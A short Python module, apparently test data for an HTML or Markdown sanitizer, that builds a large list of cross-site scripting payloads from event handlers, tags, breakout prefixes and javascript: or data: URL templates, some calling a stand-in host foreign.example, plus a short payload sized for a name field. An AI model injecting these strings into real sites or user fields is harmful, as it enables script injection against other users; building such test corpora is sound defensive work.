"""Texts that try to run a script or to load something from elsewhere."""

from __future__ import annotations

from itertools import product

ACTS = ("window.hit=1", "alert(1)", "fetch('//foreign.example')")
EVENTS = ("onload", "onerror", "onfocus autofocus", "ontoggle open", "onbegin", "ONMOUSEOVER")
TAGS = ("img src=x", "svg", "body", "details", "video src=x", "input", "iframe", "math", "animate")
BEFORE = ("", '">', "</title>", "`", "<!--><", "</textarea>")
WHOLE = (
    *("<script>{}</script>", "<scr<script>ipt>{}</script>", "<svg><script>{}</script>"),
    *("[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java&#10;script:{})", "![x](javascript:{})"),
    *("<javascript:{}>", "[x](data:text/html,<script>{}</script>)", '[x](<" onclick={}>)'),
    *(
        "<a href=javascript:{}>x</a>",
        "<a href='&#106;avascript:{}'>x</a>",
        "[x][y]\n\n[y]: javascript:{}",
    ),
    *(
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data='javascript:{}'>",
        "<b hx-on:load='{}'>",
    ),
    *(
        "<form action=javascript:{}><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;javascript:{}'>",
    ),
    *("<style>@import '//foreign.example';</style>{}", "<base href=//foreign.example>{}"),
    *(
        "<b hx-get=//foreign.example hx-trigger=load>{}</b>",
        "<math><mtext><mglyph><style><img src=x onerror={}>",
    ),
)
PAYLOADS = [
    *(
        f"{before}<{tag} {event.replace(' ', f'={act} ', 1) if ' ' in event else f'{event}={act}'}>"
        for before, tag, event, act in product(BEFORE, TAGS, EVENTS, ACTS)
    ),
    *(whole.replace("{}", act) for whole, act in product(WHOLE, ACTS)),
]
IN_NAME = '"><img src=x onerror=window.hit=1>'
"""Short enough for a name."""
